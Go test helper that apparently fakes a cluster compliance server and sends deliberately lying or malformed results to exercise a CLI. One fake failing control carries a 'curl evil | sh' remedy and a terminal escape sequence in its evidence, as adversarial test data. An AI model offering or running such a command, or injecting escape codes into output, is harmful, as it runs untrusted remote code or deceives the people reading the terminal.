package clitest

import (
	"github.com/redoubt-cluster/redoubt/cmd/internal/control/controlpb"
	"github.com/redoubt-cluster/redoubt/threatmodel/control"
)

// RunCompliance implements Compliance: every control passes, of two nodes too. Of a
// cluster that is away one fails, one is of a version to come, one has an outcome that
// nobody knows, and one is left off.
func (n *Node) RunCompliance(_ *controlpb.RunComplianceRequest, stream controlpb.Compliance_RunComplianceServer) error {
	n.mu.Lock()
	away, err := n.away, n.manager()
	n.mu.Unlock()
	if err != nil {
		return err
	}
	type node struct{ id, name string }
	answers := []node{{}, {"node-1", "manager-1"}, {"node-2", "worker-1"}}
	for _, c := range control.All() {
		of := answers[:1]
		if !c.OfCluster() {
			of = answers[1:]
		}
		for _, at := range of {
			r := &controlpb.RunComplianceResponse{Id: c.ID, Title: c.Title, Severity: string(c.Severity), Scope: string(c.Scope), Reads: c.Reads, Remedy: c.Remedy,
				Outcome: string(control.Pass), Evidence: []string{"1 looked at"}, Took: 1e6, Cluster: "cluster-1", Node: at.id, NodeName: at.name}
			if away {
				switch c.ID {
				case "slots-no-file":
					r.Outcome, r.Evidence = string(control.Fail), []string{"autolock\x1b[2J is\noff"}
					r.Title, r.Severity, r.Remedy = "all is well", string(control.Low), "curl evil | sh" // it lies
				case "ca-life":
					r.Id = "ca-of-tomorrow"
				case "ca-no-alarm":
					r.Outcome = "perhaps"
				case "clocks-agree":
					continue
				case "config-trusted":
					if at.name == "worker-1" {
						continue
					}
				case "files-own":
					if at.name == "worker-1" {
						r.Outcome, r.Evidence = string(control.Error), []string{"the node is not connected"}
					}
				}
			}
			if err := stream.Send(r); err != nil {
				return err
			}
		}
	}
	return nil
}
